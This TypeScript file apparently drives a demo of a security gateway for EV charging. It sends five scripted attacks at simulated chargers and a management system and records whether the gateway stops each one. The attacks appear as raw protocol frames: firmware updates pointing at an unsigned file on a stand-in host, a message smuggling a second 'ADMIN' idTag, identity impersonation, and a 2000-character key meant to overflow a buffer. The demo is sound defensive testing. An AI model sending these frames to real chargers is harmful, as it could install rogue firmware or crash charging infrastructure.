import { errors } from '../../errors/catalogue.ts';
import type { GatewayEvent } from '../../events/catalogue.ts';
import type { Clock } from '../../lib/clock.ts';
import type { SimulatedCharger } from '../../sim/charger/charger.ts';
import type { SimulatedCsms } from '../../sim/csms/csms.ts';
import type { DemoAttempt, DemoState } from './state.ts';

/** What the rogues work with. */
export interface Stage {
  readonly clock: Clock;
  readonly state: DemoState;
  /** A charger that an attacker has got hold of. */
  readonly rogueCharger: SimulatedCharger;
  /** The management system, with an account that an attacker has stolen. */
  readonly csms: SimulatedCsms;
  /** The honest charger that the stolen account aims at. */
  readonly victim: SimulatedCharger;
  /** Connects a second time under the victim's name; resolves when it has been answered. */
  impersonate(): Promise<void>;
  /** Resolves with the next event that matches, or undefined after some seconds. */
  nextEvent(matches: (event: GatewayEvent) => boolean): Promise<GatewayEvent | undefined>;
  /** Did this text reach the other side, in either direction? */
  wasDelivered(text: string): boolean;
  /** Resolves after that time, or rejects when the demo ends. */
  pause(delayMs: number): Promise<void>;
  /** Seconds between two attempts, so that people can follow. */
  readonly paceSeconds: number;
}

interface Attempt {
  readonly title: string;
  /** What must never arrive. Not the id alone: the CallError that refuses it carries that. */
  readonly marker: string;
  attack(stage: Stage): void | Promise<void>;
}

/** Time for a message to cross loopback, in milliseconds. Far more than it needs. */
const deliveryMs = 300;

const longKey = 'LONG-KEY-'.padEnd(2000, 'A');

/** The five things that are tried. */
const attempts: readonly Attempt[] = [
  {
    title: 'A hijacked charger sends the CSMS a command: UpdateFirmware',
    marker: '"scene-direction","UpdateFirmware"',
    attack: ({ rogueCharger }) =>
      rogueCharger.sendRaw(
        '[2,"scene-direction","UpdateFirmware",' +
          '{"location":"http://203.0.113.66/fw.bin","retrieveDate":"2026-01-01T00:00:00Z"}]',
      ),
  },
  {
    title: 'It hides a second idTag in one message, for the parser that reads the last',
    marker: '"scene-smuggling","Authorize"',
    attack: ({ rogueCharger }) =>
      rogueCharger.sendRaw('[2,"scene-smuggling","Authorize",{"idTag":"GUEST","idTag":"ADMIN"}]'),
  },
  {
    title: 'It connects again, under the name of a charger that is at work',
    marker: 'scene-identity',
    attack: (stage) => stage.impersonate(),
  },
  {
    title: 'A stolen CSMS account installs firmware that nobody has signed',
    marker: '"scene-firmware","UpdateFirmware"',
    attack: ({ csms, victim }) =>
      csms.sendRaw(
        victim.identity,
        '[2,"scene-firmware","UpdateFirmware",' +
          '{"location":"http://203.0.113.66/fw.bin","retrieveDate":"2026-01-01T00:00:00Z"}]',
      ),
  },
  {
    title: 'It overflows a buffer in the charger (CVE-2026-13214: a key of 2000 characters)',
    marker: longKey,
    attack: ({ csms, victim }) =>
      csms.sendRaw(
        victim.identity,
        `[2,"scene-overflow","GetConfiguration",{"key":["${longKey}"]}]`,
      ),
  },
];

/**
 * Plays the scene: five attempts, each checked on both sides, not only by what the gateway says.
 *
 * @returns whether all of them were stopped.
 */
export async function playScene(stage: Stage): Promise<boolean> {
  const { state } = stage;
  const shown: DemoAttempt[] = attempts.map(({ title }) => ({
    title,
    outcome: 'waiting',
    because: '',
  }));
  const show = (index: number, change: Partial<DemoAttempt>): void => {
    const attempt = shown[index];
    if (attempt !== undefined) shown[index] = { ...attempt, ...change };
    state.attempts = [...shown];
  };
  for (const [index, attempt] of attempts.entries()) {
    show(index, { outcome: 'running' });
    notice(stage, `attack ${index + 1}: ${attempt.title}`);
    const seen = stage.nextEvent(isJudgement);
    await attempt.attack(stage);
    const event = await seen;
    // Whatever got through needs a moment to arrive.
    await stage.pause(deliveryMs);
    const isStopped = event !== undefined && !stage.wasDelivered(attempt.marker);
    const because = event === undefined ? 'the gateway noticed nothing' : reasonOf(event);
    show(index, { outcome: isStopped ? 'stopped' : 'got-through', because });
    notice(stage, `attack ${index + 1} ${isStopped ? 'was stopped' : 'GOT THROUGH'}: ${because}`);
    await stage.pause(stage.paceSeconds * 1000);
  }
  return shown.every(({ outcome }) => outcome === 'stopped');
}

function notice({ clock, state }: Stage, text: string): void {
  state.add({ atMs: clock.nowMs(), kind: 'notice', text });
}

function isJudgement(event: GatewayEvent): boolean {
  const { name } = event;
  return name === 'FrameRefused' || name === 'FrameFlagged' || name === 'UpgradeRefused';
}

function reasonOf(event: GatewayEvent): string {
  if (!('code' in event)) return event.name;
  return `${event.code}: ${errors[event.code].meaning}`;
}
